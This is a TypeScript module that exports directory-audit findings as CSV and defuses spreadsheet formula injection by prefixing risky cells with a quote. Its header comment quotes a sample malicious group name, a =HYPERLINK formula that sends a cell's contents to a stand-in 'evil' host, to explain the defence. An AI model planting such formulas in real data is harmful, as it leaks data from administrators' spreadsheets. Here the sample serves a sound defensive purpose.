// The audit's findings as CSV (RFC 4180: fields quoted when they hold a quote, a comma or a line break, quotes doubled,
// records ended by CRLF), one row per finding, worst first, for a spreadsheet or a ticket system. One file, one table:
// the inventory stays in the Markdown and HTML reports and in --json.
//
// CSV injection: a spreadsheet treats a cell starting with = + - @ (or a tab or CR) as a formula, and names, DNs and
// SPNs come from the directory, chosen by anyone who can create an object there: a group named
// =HYPERLINK("http://evil/?"&A1,"click") would run in the admin's Excel. Such cells get a leading ' (OWASP's advice),
// which spreadsheets show as text; the value stays readable. The same applies after leading spaces, which some
// spreadsheets trim before they decide.
//
// The text starts with a UTF-8 byte-order mark: without it Excel reads a .csv in the machine's ANSI code page and
// breaks any non-ASCII name.
import { findingsWorstFirst, line, type ReportOptions } from './report-shared.js';
import type { AuditReport } from './types.js';

export const CSV_BOM = '\uFEFF';

const FORMULA_START = /^[\s]*[=+\-@]|^[\t\r]/;

/** One field: defused against formulas, then quoted if RFC 4180 requires it. */
export function csvField(value: string): string {
  const safe = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

export const CSV_HEADERS = [
  'severity',
  'kind',
  'title',
  'subject',
  'dn',
  'why',
  'evidence',
  'fix',
  'fix command',
  'unknown',
  'move account',
  'id',
] as const;

export function renderCsv(report: AuditReport, _options: ReportOptions = {}): string {
  const rows = findingsWorstFirst(report.findings).map((f) => [
    f.severity,
    f.kind,
    line(f.title),
    line(f.subject.name),
    line(f.subject.dn ?? ''),
    line(f.why),
    f.evidence.map(line).join(' | '),
    line(f.fix.summary),
    // A command may span lines: kept as CRLF inside its quoted field, as RFC 4180 allows.
    f.fix.command.split(/\r?\n/).map(line).join('\r\n'),
    line(f.unknown ?? ''),
    line(f.moveAccount ?? ''),
    line(f.id),
  ]);
  return CSV_BOM + [[...CSV_HEADERS], ...rows].map((r) => `${r.map(csvField).join(',')}\r\n`).join('');
}
